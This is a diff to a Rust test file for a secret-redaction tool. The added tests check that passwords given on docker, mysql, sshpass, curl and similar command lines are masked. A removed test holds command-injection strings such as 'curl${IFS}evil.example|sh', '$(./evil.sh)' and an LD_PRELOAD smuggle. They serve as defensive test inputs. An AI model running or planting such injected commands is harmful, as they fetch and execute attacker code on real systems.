@@ -97,6 +97,80 @@ fn what_follows_a_telling_word_is_hidden() {
     }
 }
 
+/// A command that has a password in it, as its words.
+const COMMANDS: [&[&str]; 28] = [
+    &["docker", "login", "-p", "hunter2"],
+    &["docker", "login", "-phunter2", "r.example"],
+    &["docker", "login", "-u", "me", "-p=hunter2", "r.example"],
+    &["docker", "login", "--password=hunter2"],
+    &["docker", "login", "--password", "hunter2"],
+    &["sudo", "/usr/bin/docker", "--config", "d", "login", "r.example", "-u", "me", "-p", "hunter2"],
+    &["podman", "login", "-p", "hunter2", "quay.io"],
+    &["helm", "registry", "login", "-u", "me", "-p", "hunter2", "r.example"],
+    &["helm", "repo", "add", "x", "https://x", "--password", "hunter2"],
+    &["oras", "login", "-u", "me", "-p", "hunter2", "r.example"],
+    &["buildah", "login", "-p", "hunter2", "r.example"],
+    &["nerdctl", "login", "-p", "hunter2"],
+    &["skopeo", "login", "-u", "me", "-p", "hunter2"],
+    &["crane", "auth", "login", "r.example", "-u", "me", "-p", "hunter2"],
+    &["az", "login", "-u", "me", "-p", "hunter2"],
+    &["mysql", "-phunter2", "db"],
+    &["mysqldump", "-h", "db", "-phunter2", "x"],
+    &["mariadb", "-u", "root", "-phunter2"],
+    &["redis-cli", "-h", "db", "-a", "hunter2", "ping"],
+    &["redis-cli", "--pass", "hunter2"],
+    &["sshpass", "-p", "hunter2", "ssh", "-p", "22", "x"],
+    &["sshpass", "-v", "-phunter2", "ssh", "x"],
+    &["curl", "-s", "-u", "me:hunter2", "https://x"],
+    &["curl", "-ume:hunter2", "https://x"],
+    &["curl", "--user", "me:hunter2", "https://x"],
+    &["wget", "--password=hunter2", "https://x"],
+    &["wget", "--http-password", "hunter2", "https://x"],
+    &["env", "PGPASSWORD=hunter2", "psql"],
+];
+
+#[test]
+fn the_password_of_a_command_is_hidden_in_its_text_and_in_its_words() {
+    for words in COMMANDS {
+        // A password may have anything in it.
+        let secrets = ["hunter2", "hunter 2", "hun'ter2", "h;u|n&ter2"];
+        // Where a variable's value ends is not to be told from a script that begins with one.
+        let known = if words.contains(&"env") { 1 } else { secrets.len() };
+        for secret in secrets.into_iter().take(known) {
+            let words: Vec<String> = words.iter().map(|word| word.replace("hunter2", secret)).collect();
+            let left = args(json!({"argv": words, "after": ["-p", "80"]}));
+            assert_eq!(left.hidden, 1, "{}", left.left);
+            let text = left.left.to_string();
+            assert!(!text.contains("ter2") && !text.contains("r 2"), "{text}");
+            let quote = if secret.contains('\'') { '"' } else { '\'' };
+            let whole = [format!("me:{secret}"), format!("me:{quote}{secret}{quote}")];
+            let line = words.join(" ").replace(secret, &format!("{quote}{secret}{quote}"));
+            let line = line.replace(&whole[1], &format!("{quote}{}{quote}", whole[0]));
+            let left = Redactor::default().text(&format!("cd x && {line} && y -p 80"), Mark::Record);
+            assert!(!left.left.contains("ter2") && !left.left.contains("r 2"), "{line}: {}", left.left);
+            assert!(left.hidden == 1 && left.left.ends_with(" y -p 80"), "{line}: {}", left.left);
+        }
+    }
+}
+
+#[test]
+fn other_words_of_such_commands_stay() {
+    for words in [
+        &["docker", "run", "--name", "login", "-p", "8080:80", "x"][..],
+        &["docker", "login", "--password-stdin", "r.example"],
+        &["docker", "login", "-p", "$PASSWORD"],
+        &["mysql", "-p", "db"],
+        &["sshpass", "-e", "ssh", "-p", "22", "x"],
+        &["ssh", "-p", "22", "login"],
+        &["redis-cli", "-h", "db", "get", "-a"],
+        &["mkdir", "-p", "docker/login"],
+    ] {
+        assert_eq!(args(json!({"argv": words})).hidden, 0, "{words:?}");
+        let line = words.join(" ");
+        assert_eq!(record(&line), line);
+    }
+}
+
 #[test]
 fn an_address_keeps_everything_but_its_password() {
     let left = record("https://me:hunter2@example.org/x?y");
@@ -162,7 +236,7 @@ fn names_of_arguments_hide_at_any_depth() {
         "user": "me", "password": "p", "clientSecret": "s", "X-Api-Key": "k", "max_tokens": 4096, "tokens": 7,
         "deep": [{"access_token": "t", "credentials": {"user": "u", "pin": 1234}}],
         "primary_key": "id", "sort_key": "2024-01-01T00:00:00-abcdef", "signing_key": "k2", "cookie": "c",
-        "encryptionKey": "0123456789abcdef", "pwd": "/home/me", "passWord": "p", "password_file": "/run/pw", "token_count": "12",
+        "encryptionKey": "0123456789abcdef", "pwd": "/home/me", "db_pw": "p", "passWord": "p", "password_file": "/run/pw", "token_count": "12",
         "foo_key": "abcdef0123456789abcdef", "uuid_key": "9f86d081-884c-4d63-a1a5-1b4e6c3a2f10", "secret": null,
     }));
     let mark = |kind: &str, n: usize| format!("‹secret: {kind}, {n} characters›");
@@ -174,12 +248,12 @@ fn names_of_arguments_hide_at_any_depth() {
             "deep": [{"access_token": mark("token", 1),
                 "credentials": {"user": mark("credentials", 1), "pin": mark("credentials", 4)}}],
             "primary_key": "id", "sort_key": "2024-01-01T00:00:00-abcdef", "signing_key": mark("key", 2),
-            "cookie": mark("cookie", 1), "encryptionKey": mark("key", 16), "pwd": "/home/me", "passWord": mark("password", 1),
+            "cookie": mark("cookie", 1), "encryptionKey": mark("key", 16), "pwd": "/home/me", "db_pw": mark("password", 1), "passWord": mark("password", 1),
             "password_file": "/run/pw", "token_count": "12", "foo_key": mark("key", 22),
             "uuid_key": "9f86d081-884c-4d63-a1a5-1b4e6c3a2f10", "secret": null,
         })
     );
-    assert_eq!(left.hidden, 11);
+    assert_eq!(left.hidden, 12);
 }
 
 #[test]
@@ -386,41 +460,4 @@ fn built_in_names_of_variables_are_found_as_their_globs_say() {
     }
     let vars = ["A_KEY", "PATH", "mine"].map(|name| (name.into(), name.into()));
     assert_eq!(secret_env(&["m*".to_owned()], vars).unwrap(), ["A_KEY", "mine"]);
-}
-
-#[test]
-fn a_guess_ends_where_a_shell_would_end_it() {
-    for (text, left) in [
-        ("mysql -px;curl${IFS}evil.example|sh", ";curl${IFS}evil.example|sh"),
-        ("sshpass -px;./evil.sh", ";./evil.sh"),
-        ("curl -u a:b;./evil.sh", ";./evil.sh"),
-        ("curl -u a:b&&./evil.sh", "&&./evil.sh"),
-        ("curl https://a:b;sh${IFS}evil.sh;true@h", ";sh${IFS}evil.sh;true@h"),
-        ("PASSWORD=\"x$(./evil.sh)\"", "$(./evil.sh)\""),
-        ("PASSWORD=\"x`./evil.sh`\"", "`./evil.sh`\""),
-        ("PASSWORD='x\\';./evil.sh;''", "';./evil.sh;''"),
-        ("PASSWORD=\\\"x;./evil.sh;\\\"", ";./evil.sh;\\\""),
-        ("tool --token z1`./evil.sh`", "`./evil.sh`"),
-        ("curl -H Cookie:a=1;./evil.sh", ";./evil.sh"),
-        ("Cookie: a=1; LD_PRELOAD=./evil.so", "; LD_PRELOAD=./evil.so"),
-        ("curl -H Authorization:x1x2x3x4|./evil.sh", "|./evil.sh"),
-        ("-----BEGIN PRIVATE KEY-----; ./evil.sh", "; ./evil.sh"),
-    ] {
-        let found = Redactor::default().text(text, Mark::Record);
-        assert!(found.left.ends_with(&format!("›{left}")), "{text}: {}", found.left);
-        assert_eq!(found.hidden, 1, "{text}: {}", found.left);
-    }
-    for (text, secret) in [
-        ("PASSWORD=\"a`b;c\"", "b;c"),
-        ("password='a;b|c'", "b|c"),
-        ("{\"password\": \"a(b;c\"}", "b;c"),
-        ("curl -H 'Cookie: a=1; b=2' x", "b=2"),
-        ("Cookie: a=1; JSESSIONID=2; c=3", "c=3"),
-    ] {
-        assert!(!record(text).contains(secret), "{text}: {}", record(text));
-    }
-    let key = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ";
-    let code =
-        format!("x = \"-----BEGIN {0} KEY-----\\n\"\n  \"{key}\\n\"\n  \"-----END {0} KEY-----\"", "PRIVATE");
-    assert!(!record(&code).contains(key), "{}", record(&code));
 }
